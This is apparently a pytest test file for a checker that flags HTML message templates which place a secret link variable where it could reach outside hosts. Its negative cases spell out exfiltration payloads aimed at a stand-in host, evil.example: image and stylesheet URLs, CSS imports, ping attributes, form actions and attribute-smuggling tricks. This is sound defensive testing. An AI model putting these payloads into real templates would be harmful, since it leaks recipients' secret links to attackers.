"""Claims about secret values in the HTML of messages: the reader sees them, and nobody else is asked for anything."""

from __future__ import annotations

import pytest

from tollgate.core.templates_html import misplaced
from tollgate.core.templates_stock import MESSAGES

EVIL = "https://evil.example/?"


@pytest.mark.parametrize(
    "stock", [stock for stock in MESSAGES if "link" in stock.variables], ids=lambda stock: stock.key
)
def test_the_messages_in_stock_show_their_link(stock: object) -> None:
    assert not misplaced(stock.html, ["link"])  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "words",
    [
        "<p>{{link}}</p>",
        "5 < 6 <3 <= {{ link }}",
        "<a class=big href = '{{ link }}'>go</a >",
        '<A\nHREF="{{! ours }}{{link}}" hidden>{{link}}</A>',
        '<!DOCTYPE html><style>a > b {color: red} </b></style><br/><p style="color: red">{{link}}</p>',
        "{{#if company.name}}<b>{{link}}</b>{{else}}{{link}}{{/if}}",
        '<p {{#if name}}class="{{name}}"{{/if}} title="of {{#unless brand}}us{{/unless}}">{{link}}</p>',
        "{{#each lines}}<i>{{this}}</i>{{else}}-{{/each}}{{link}}",
    ],
)
def test_the_text_and_a_whole_href_may_show_a_link(words: str) -> None:
    assert misplaced(words, ["link"]) == ""


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (f'<img src="{EVIL}{{{{link}}}}">', "only in the text"),
        ('<img src="{{link}}">', "only in the text"),
        ('<link href="{{link}}">', "only in the text"),
        (f'<a href="{EVIL}{{{{link}}}}">go</a>', "only in the text"),
        ('<a href="{{link}}.evil.example">go</a>', "only in the text"),
        ('<a href="{{#if link}}{{link}}{{/if}}">go</a>', "only in the text"),
        (f'<p style="background: url({EVIL}{{{{link}}}})">', "only in the text"),
        (f"<style>@import url({EVIL}{{{{link}}}})</style>", "only in the text"),
        (f"<img src='{EVIL} > {{{{link}}}}'>", "only in the text"),
        ("<p {{link}}>", "bare"),
        ("<a href={{link}}>go</a>", "cannot be read"),
        (f'<a x={EVIL}{{{{#if name}}}}{{{{/if}}}}href="{{{{link}}}}">go</a>', "cannot be read"),
        (f'<a x={EVIL}\xa0href="{{{{link}}}}">go</a>', "cannot be read"),
        (f'<a x={EVIL}{{{{! }}}}href="{{{{link}}}}">go</a>', "cannot be read"),
        (f'<a ping="{EVIL}" href="{{{{link}}}}">go</a>', "attribute ping"),
        ('<p onclick="go()">{{link}}</p>', "attribute onclick"),
        (f'{{{{#if name}}}}<img src="{EVIL}{{{{else}}}}<p title="">{{{{/if}}}}{{{{link}}}}">', "block must close"),
        ("<!-- {{link}} -->", "Leave remarks"),
        ("<{{name}} {{link}}>", "Leave remarks"),
        (f'<form action="{EVIL}"><textarea name="x">{{{{link}}}}</textarea></form>', "<form>"),
        ('{{link}}<p title="', "not closed"),
    ],
)
def test_elsewhere_a_link_would_reach_others(words: str, why: str) -> None:
    assert why in misplaced(words, ["link"])
    assert not misplaced(words.replace("{{link}}", "{{name}}"), ["link"]) or why != "only in the text"
